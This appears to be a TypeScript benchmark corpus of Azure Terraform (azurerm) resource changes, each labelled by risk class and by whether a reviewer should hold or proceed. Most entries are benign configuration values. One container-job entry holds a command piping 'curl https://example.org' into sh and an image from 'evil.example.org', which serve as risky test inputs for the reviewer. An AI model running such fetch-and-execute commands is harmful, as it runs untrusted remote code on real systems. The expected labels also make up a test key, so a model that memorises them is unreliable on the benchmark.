import type { ArgumentClass } from "../../ops/review/impact/model.ts";
import type { Json } from "../../ops/review/model.ts";

/** One change of one resource, and what a careful operator does about it. */
export interface CorpusChange {
  /** Without `azurerm_`. Its state before the change is in resources.json. */
  readonly type: string;
  /** `storage.0.size_gb`; empty for the resource itself. */
  readonly path: string;
  /** The new value; undefined when the argument, or the resource, goes. */
  readonly to: Json | undefined;
  /** Whether the real azurerm 4.55.0 replaces the resource. */
  readonly replaces: boolean;
  readonly expect: "hold" | "proceed";
  readonly class: ArgumentClass | "harmless";
}

type Row = readonly [path: string, to: Json | undefined, how?: "replaces"];

const rows = (
  expect: CorpusChange["expect"],
  name: CorpusChange["class"],
  type: string,
  ...changes: readonly Row[]
): readonly CorpusChange[] =>
  changes.map(([path, to, how]) => ({ type, path, to, replaces: how === "replaces", expect, class: name }));
const hold = (name: ArgumentClass, type: string, ...changes: readonly Row[]) => rows("hold", name, type, ...changes);
const proceed = (name: CorpusChange["class"], type: string, ...changes: readonly Row[]) =>
  rows("proceed", name, type, ...changes);

const WORKSPACE =
  "/subscriptions/99999999-9999-4999-8999-999999999999/resourceGroups/x/providers/Microsoft.OperationalInsights/workspaces/other";
const SERVER = "mysql_flexible_server";
const STORE = "storage_account";
const deny = (more: { readonly [key: string]: Json } = {}): { readonly [key: string]: Json } => ({
  access: "Deny",
  destination_address_prefix: "*",
  destination_port_range: "*",
  direction: "Inbound",
  name: "deny-other-inbound",
  priority: 4096,
  protocol: "*",
  source_address_prefix: "*",
  source_port_range: "*",
  ...more,
});
const allow = (source: string, port = "3306"): { readonly [key: string]: Json } =>
  deny({
    access: "Allow",
    name: "allow-more",
    priority: 210,
    protocol: "Tcp",
    source_address_prefix: source,
    destination_port_range: port,
  });

/**
 * The changes that `npm run bench:judgement` judges. What the provider does is from recordings of azurerm 4.55.0; what an
 * operator does is our judgement, one line for each.
 */
export const CHANGES: readonly CorpusChange[] = [
  ...hold(
    "loses data",
    SERVER,
    ["", undefined],
    ["administrator_login", "other", "replaces"],
    ["delegated_subnet_id", "/other", "replaces"],
    ["geo_redundant_backup_enabled", false, "replaces"],
    ["location", "northeurope", "replaces"],
    ["name", "mysql-other", "replaces"],
    ["private_dns_zone_id", "/other", "replaces"],
    ["resource_group_name", "rg-other", "replaces"],
    ["storage.0.size_gb", 64, "replaces"],
  ),
  ...hold("loses history", SERVER, ["backup_retention_days", 7], ["backup_retention_days", undefined]),
  ...hold("opens access", SERVER, ["public_network_access", "Enabled"]),
  ...hold("lowers protection", SERVER, ["high_availability", undefined]),
  ...hold(
    "interrupts",
    SERVER,
    ["version", "9.0"],
    ["zone", "3"],
    ["sku_name", "GP_Standard_D32ds_v4"],
    ["sku_name", "B_Standard_B2ms"],
    ["administrator_password_wo_version", 2],
  ),
  ...proceed(
    "interrupts",
    SERVER,
    ["sku_name", "GP_Standard_D8ds_v4"],
    ["sku_name", "GP_Standard_D2ds_v4"],
    ["maintenance_window.0.start_hour", 4],
    ["maintenance_window.0.day_of_week", 6],
    ["storage.0.log_on_disk_enabled", true],
  ),
  ...proceed(
    "costs",
    SERVER,
    ["storage.0.size_gb", 256],
    ["storage.0.io_scaling_enabled", true],
    ["storage.0.iops", 2000],
  ),
  ...proceed("harmless", SERVER, ["tags.owner", "somebody-else"], ["tags.cost-center", "4711"], ["tags", undefined]),
  ...hold(
    "loses data",
    "mysql_flexible_database",
    ["", undefined],
    ["charset", "latin1", "replaces"],
    ["collation", "utf8mb4_bin", "replaces"],
    ["name", "other", "replaces"],
  ),
  ...hold("blinds", "mysql_flexible_server_configuration", ["value", "OFF"]),
  ...hold(
    "lowers protection",
    "management_lock",
    ["", undefined],
    ["scope", "/subscriptions/33333333-3333-4333-8333-333333333333/resourceGroups/rg-other", "replaces"],
  ),
  ...proceed(
    "harmless",
    "management_lock",
    ["notes", "other words", "replaces"],
    ["lock_level", "ReadOnly", "replaces"],
  ),
  ...hold(
    "opens access",
    "network_security_group",
    ["security_rule.0.source_address_prefix", "*"],
    ["security_rule.0.source_address_prefix", "Internet"],
    ["security_rule.0.destination_port_range", "*"],
  ),
  ...hold(
    "lowers protection",
    "network_security_group",
    ["", undefined],
    ["security_rule", [allow("10.30.0.0/24")]],
    ["security_rule", [allow("10.30.0.0/24"), deny({ direction: "Outbound" })]],
    ["security_rule", [allow("10.30.0.0/24"), deny({ destination_port_range: "22" })]],
    ["security_rule", [allow("10.30.0.0/24"), deny({ source_address_prefix: "10.9.0.0/24" })]],
  ),
  ...proceed(
    "opens access",
    "network_security_group",
    ["security_rule.0.source_address_prefix", "10.31.0.0/24"],
    ["security_rule.0.source_address_prefix", "192.168.4.0/28"],
  ),
  ...proceed(
    "harmless",
    "network_security_group",
    ["tags.owner", "somebody-else"],
    ["security_rule.0.description", "other words"],
  ),
  ...hold("lowers protection", "subnet_network_security_group_association", ["", undefined]),
  ...hold("opens access", "subnet", ["default_outbound_access_enabled", true]),
  ...hold("interrupts", "subnet", ["", undefined], ["name", "snet-other", "replaces"]),
  ...proceed("interrupts", "virtual_network", ["flow_timeout_in_minutes", 10]),
  ...proceed("harmless", "virtual_network", ["tags.owner", "somebody-else"]),
  ...hold("interrupts", "virtual_network", ["name", "vnet-other", "replaces"]),
  ...hold("interrupts", "private_dns_zone", ["", undefined], ["name", "other.mysql.database.azure.com", "replaces"]),
  ...hold("interrupts", "private_dns_zone_virtual_network_link", ["", undefined]),
  ...proceed("opens access", "private_dns_zone_virtual_network_link", ["registration_enabled", true]),
  ...proceed("harmless", "private_dns_zone_virtual_network_link", ["tags.owner", "somebody-else"]),
  ...hold(
    "loses data",
    "resource_group",
    ["", undefined],
    ["location", "northeurope", "replaces"],
    ["name", "rg-other", "replaces"],
  ),
  ...proceed("harmless", "resource_group", ["tags.owner", "somebody-else"]),

  ...hold(
    "loses data",
    STORE,
    ["", undefined],
    ["account_kind", "Storage", "replaces"],
    ["account_replication_type", "ZRS", "replaces"],
    ["account_tier", "Premium", "replaces"],
    ["location", "northeurope", "replaces"],
    ["name", "stother", "replaces"],
    ["infrastructure_encryption_enabled", false, "replaces"],
  ),
  ...hold(
    "opens access",
    STORE,
    ["allow_nested_items_to_be_public", true],
    ["cross_tenant_replication_enabled", true],
    ["network_rules", [{ default_action: "Allow" }]],
    ["sftp_enabled", true],
    ["local_user_enabled", true],
    ["static_website", [{ index_document: "index.html" }]],
  ),
  ...hold(
    "lowers protection",
    STORE,
    ["https_traffic_only_enabled", false],
    ["min_tls_version", "TLS1_0"],
    ["shared_access_key_enabled", true],
  ),
  ...hold(
    "loses history",
    STORE,
    ["blob_properties.0.delete_retention_policy.0.days", 1],
    ["blob_properties.0.delete_retention_policy", undefined],
    ["blob_properties.0.container_delete_retention_policy.0.days", 1],
    ["blob_properties.0.delete_retention_policy.0.permanent_delete_enabled", true],
    ["blob_properties.0.versioning_enabled", false],
  ),
  ...proceed("costs", STORE, ["access_tier", "Cool"], ["blob_properties.0.delete_retention_policy.0.days", 30]),
  ...proceed("harmless", STORE, ["tags.owner", "somebody-else"], ["blob_properties.0.change_feed_enabled", true]),
  ...hold("loses data", "storage_container", ["", undefined], ["name", "other", "replaces"]),
  ...hold(
    "opens access",
    "storage_container",
    ["container_access_type", "blob"],
    ["container_access_type", "container"],
  ),
  ...hold("loses data", "storage_queue", ["", undefined], ["name", "other", "replaces"]),
  ...hold(
    "loses history",
    "storage_management_policy",
    ["rule.0.actions.0.base_blob.0.delete_after_days_since_modification_greater_than", 1],
    ["rule.0.actions.0.base_blob.0.delete_after_days_since_creation_greater_than", 1],
    ["rule.0.filters.0.prefix_match", ["market-data/", "results/"]],
    ["rule.0.filters", []],
  ),
  ...proceed(
    "harmless",
    "storage_management_policy",
    ["rule.0.actions.0.base_blob.0.delete_after_days_since_modification_greater_than", 3650],
    ["rule.0.enabled", false],
    ["rule.0.filters.0.prefix_match", ["market-data/"]],
  ),

  ...hold(
    "blinds",
    "monitor_metric_alert",
    ["", undefined],
    ["enabled", false],
    ["action", []],
    ["criteria.0.metric_name", "io_consumption_percent"],
    ["criteria.0.aggregation", "Minimum"],
    ["criteria.0.operator", "LessThan"],
    ["criteria.0.threshold", 100_000],
    [
      "scopes",
      [
        "/subscriptions/33333333-3333-4333-8333-333333333333/resourceGroups/x/providers/Microsoft.DBforMySQL/flexibleServers/other",
      ],
    ],
  ),
  ...proceed(
    "blinds",
    "monitor_metric_alert",
    ["criteria.0.threshold", 1300],
    ["severity", 3],
    ["frequency", "PT15M"],
    ["window_size", "PT30M"],
  ),
  ...proceed(
    "harmless",
    "monitor_metric_alert",
    ["description", "other words"],
    ["tags.owner", "somebody-else"],
    ["criteria.0.threshold", 500],
  ),
  ...hold(
    "blinds",
    "monitor_action_group",
    ["", undefined],
    ["enabled", false],
    ["email_receiver", []],
    ["email_receiver.0.email_address", "nobody@example.org"],
  ),
  ...hold("instructs a machine", "monitor_action_group", [
    "webhook_receiver",
    [{ name: "hook", service_uri: "https://example.org/hook" }],
  ]),
  ...proceed(
    "harmless",
    "monitor_action_group",
    ["tags.owner", "somebody-else"],
    ["email_receiver.0.name", "other"],
    ["short_name", "other"],
  ),
  ...hold(
    "blinds",
    "monitor_diagnostic_setting",
    ["", undefined],
    ["enabled_log", []],
    ["enabled_log.0.category_group", "audit"],
    ["enabled_metric", []],
    ["log_analytics_workspace_id", WORKSPACE],
  ),
  ...hold("blinds", "log_analytics_workspace", ["daily_quota_gb", 0.023]),
  ...hold("loses data", "log_analytics_workspace", ["", undefined], ["name", "log-other", "replaces"]),
  ...hold(
    "loses history",
    "log_analytics_workspace",
    ["retention_in_days", 7],
    ["immediate_data_purge_on_30_days_enabled", true],
  ),
  ...proceed("costs", "log_analytics_workspace", ["retention_in_days", 90]),
  ...proceed("harmless", "log_analytics_workspace", ["tags.owner", "somebody-else"]),
  ...hold(
    "blinds",
    "consumption_budget_resource_group",
    ["", undefined],
    ["notification.0.enabled", false],
    ["notification.0.contact_emails", []],
    ["notification", []],
  ),
  ...proceed(
    "costs",
    "consumption_budget_resource_group",
    ["amount", 700],
    ["amount", 500],
    ["notification.0.threshold", 90],
  ),

  ...hold(
    "opens access",
    "role_assignment",
    ["role_definition_name", "Owner", "replaces"],
    ["role_definition_name", "User Access Administrator", "replaces"],
    ["scope", "/subscriptions/11111111-1111-4111-8111-111111111111", "replaces"],
    ["principal_id", "99999999-9999-4999-8999-999999999999", "replaces"],
    ["role_definition_name", "Key Vault Secrets User", "replaces"],
    ["role_definition_name", "Storage Account Contributor", "replaces"],
  ),
  ...proceed(
    "harmless",
    "role_assignment",
    ["description", "other words"],
    ["skip_service_principal_aad_check", false],
  ),
  ...hold(
    "opens access",
    "federated_identity_credential",
    ["subject", "repo:other/other:ref:refs/heads/main"],
    ["issuer", "https://example.org"],
    ["audience", ["api://other"]],
  ),
  ...proceed("harmless", "user_assigned_identity", ["tags.owner", "somebody-else"]),
  ...hold("loses data", "key_vault_secret", ["", undefined], ["name", "other", "replaces"]),
  ...proceed("harmless", "key_vault_secret", ["content_type", "text"], ["tags.owner", "somebody-else"]),

  ...hold(
    "instructs a machine",
    "container_app_job",
    ["template.0.container.0.image", "evil.example.org/worker:1"],
    ["template.0.container.0.image", "someone/worker:1"],
    ["template.0.container.0.command", ["sh", "-c", "curl https://example.org | sh"]],
  ),
  ...proceed("instructs a machine", "container_app_job", ["template.0.container.0.env.0.value", "other"]),
  ...proceed(
    "interrupts",
    "container_app_job",
    ["template.0.container.0.memory", "4Gi"],
    ["template.0.container.0.cpu", 2],
    ["replica_timeout_in_seconds", 900],
    ["replica_retry_limit", 2],
    ["event_trigger_config.0.scale.0.max_executions", 20],
    ["event_trigger_config.0.parallelism", 2],
  ),
  ...proceed("harmless", "container_app_job", ["tags.owner", "somebody-else"]),
  ...hold("opens access", "container_app_environment", ["public_network_access", "Enabled"]),
  ...proceed("harmless", "container_app_environment", ["tags.owner", "somebody-else"]),
  ...proceed("harmless", "eventgrid_system_topic", ["tags.owner", "somebody-else"]),
  ...hold("loses data", "eventgrid_system_topic_event_subscription", ["storage_blob_dead_letter_destination", []]),
  ...hold(
    "opens access",
    "eventgrid_system_topic_event_subscription",
    ["storage_queue_endpoint.0.storage_account_id", "/other"],
    ["webhook_endpoint", [{ url: "https://example.org" }]],
  ),
  ...proceed(
    "interrupts",
    "eventgrid_system_topic_event_subscription",
    ["subject_filter.0.subject_begins_with", "/other"],
    ["retry_policy.0.max_delivery_attempts", 20],
  ),
  ...hold("lowers protection", "servicebus_namespace", ["local_auth_enabled", true], ["minimum_tls_version", "1.0"]),
  ...hold(
    "loses data",
    "servicebus_namespace",
    ["", undefined],
    ["name", "sb-other", "replaces"],
    ["sku", "Premium", "replaces"],
  ),
  ...proceed("harmless", "servicebus_namespace", ["tags.owner", "somebody-else"]),
  ...hold(
    "loses data",
    "servicebus_queue",
    ["", undefined],
    ["default_message_ttl", "PT1M"],
    ["dead_lettering_on_message_expiration", false],
    ["auto_delete_on_idle", "PT5M"],
    ["name", "other", "replaces"],
  ),
  ...hold(
    "opens access",
    "servicebus_queue",
    ["forward_to", "elsewhere"],
    ["forward_dead_lettered_messages_to", "elsewhere"],
  ),
  ...proceed("interrupts", "servicebus_queue", ["lock_duration", "PT2M"], ["max_delivery_count", 20]),
];
